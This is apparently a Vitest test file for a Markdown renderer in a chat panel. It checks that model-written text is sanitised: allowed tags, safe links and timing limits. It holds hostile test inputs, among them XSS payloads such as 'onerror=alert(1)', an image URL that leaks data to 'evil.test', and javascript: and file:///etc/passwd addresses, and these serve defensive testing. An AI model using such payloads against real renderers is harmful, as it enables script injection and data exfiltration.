// @vitest-environment jsdom
import fc from 'fast-check';
import { render } from 'preact';
import { afterEach, expect, test } from 'vitest';
import { MarkdownView, safeAddress } from '../../../../panel/chat/view/markdown-view.tsx';
import { ShellContext } from '../../../../panel/ui/shell/shell-context.ts';
import { fakeShell } from '../../../fakes/fake-shell.ts';
import { threadTimer } from '../../thread-timer.ts';

const place = document.createElement('div');
afterEach(() => render(null, place));

function shown(text: string): HTMLElement {
  render(null, place);
  render(
    <ShellContext.Provider value={fakeShell()}>
      <MarkdownView text={text} />
    </ShellContext.Provider>,
    place,
  );
  return place;
}

const ELEMENTS =
  'div p h3 h4 h5 ul ol li input table thead tbody tr th td blockquote hr br strong em del code pre figure figcaption span a button svg path svg:*'.split(
    ' ',
  );
const ATTRIBUTES =
  'class href title target rel start type checked disabled scope tabindex aria-hidden aria-label'.split(
    ' ',
  );

/** What must hold of whatever a model writes. */
function checked(text: string): void {
  for (const el of shown(text).querySelectorAll('*')) {
    if (el.closest('.icon') !== null) continue;
    expect(ELEMENTS, text).toContain(el.localName);
    for (const { name, value } of el.attributes) {
      expect(ATTRIBUTES, `${el.localName} of ${text}`).toContain(name);
      if (name === 'href') expect(value).toMatch(/^(?:https?|mailto):/);
    }
    if (el.localName === 'a') {
      expect(el.getAttribute('target')).toBe('_blank');
      expect(el.getAttribute('rel')).toBe('noopener noreferrer');
    }
  }
}

test('what people write is shown as they mean it', () => {
  const at = shown(
    '# Title\n\nSome **bold** and `a < b`\n\n1. one\n2. two\n\n| a | b |\n|-|-|\n| 1 | 2 |',
  );
  expect(at.querySelector('h3')?.textContent).toBe('Title');
  expect(at.querySelector('strong')?.textContent).toBe('bold');
  expect(at.querySelector('code')?.textContent).toBe('a < b');
  expect([...at.querySelectorAll('li')].map((li) => li.textContent)).toEqual(['one', 'two']);
  expect([...at.querySelectorAll('td')].map((td) => td.textContent)).toEqual(['1', '2']);
});

test('HTML is shown as it was written', () => {
  const html = '<img src=x onerror=alert(1)><script>alert(1)</script>';
  expect(shown(`a ${html}\n\n${html}`).textContent).toContain('<script>');
  checked(html);
});

test('a picture is a link to it, and nothing loads', () => {
  const at = shown('![a chart](https://evil.test/p.png?data=secret)');
  expect(at.querySelector('img')).toBeNull();
  expect(at.querySelector('a')?.textContent).toBe('Picture: a chart');
});

test.each([
  'javascript:alert(1)',
  ' javascript:alert(1)',
  'data:text/html,x',
  'file:///etc/passwd',
  'chrome://settings',
  'blob:https://a.test/1',
  '//a.test',
  '/panel/panel.html',
  'https://bank.test@evil.test/',
  `https://a.test/${'a'.repeat(5000)}`,
])('%s is no link', (href) => {
  expect(safeAddress(href)).toBeNull();
});

test('an address keeps what it names', () => {
  expect(safeAddress('https://a.test/x?y=1#z')).toBe('https://a.test/x?y=1#z');
  expect(safeAddress('mailto:a@b.test')).toBe('mailto:a@b.test');
});

/** Pieces that Markdown, HTML and attacks are made of. */
const PIECES = [
  ...['<', '>', '</', '<img src=x ', '<a href="javascript:x">', '<svg/onload=', '<!--', '-->'],
  ...['[', ']', '](', ')', '![', 'javascript:', 'data:text/html,', 'https://a.test/', '"', "'"],
  ...['`', '```', '~~~', '*', '**', '_', '~~', '#', '> ', '- ', '1. ', '- [x] ', '|', '|-|-|'],
  ...['\n', '\n\n', '    ', '\t', '\\', '&lt;', '&#x6a;', '&colon;', '\u0000', '\u202e', '😀'],
  ...['onerror=', 'style=', 'srcset=', '[a]: javascript:x', '[a]: https://a.test', '[a]', 'word'],
];

test('hostile Markdown makes no other element and no address that loads', () => {
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...PIECES), { maxLength: 60 }), (pieces) => {
      checked(pieces.join(''));
    }),
    { numRuns: 400 },
  );
});

test('a paragraph that is slow to read is shown without its emphasis', () => {
  const start = threadTimer();
  for (const piece of ['_a', '![a](', '[a](', '*a ', '~~a', '`a ']) shown(piece.repeat(20_000));
  shown(`${'_a'.repeat(1400)}\n\n`.repeat(30));
  expect(start()).toBeLessThan(4000);
});

test('quotes and lists in each other do not exhaust the panel', () => {
  for (const text of ['> '.repeat(5000), '- '.repeat(5000), '['.repeat(3000), '*'.repeat(3000)]) {
    expect(shown(text).textContent?.length).toBeGreaterThan(-1);
    checked(text);
  }
});
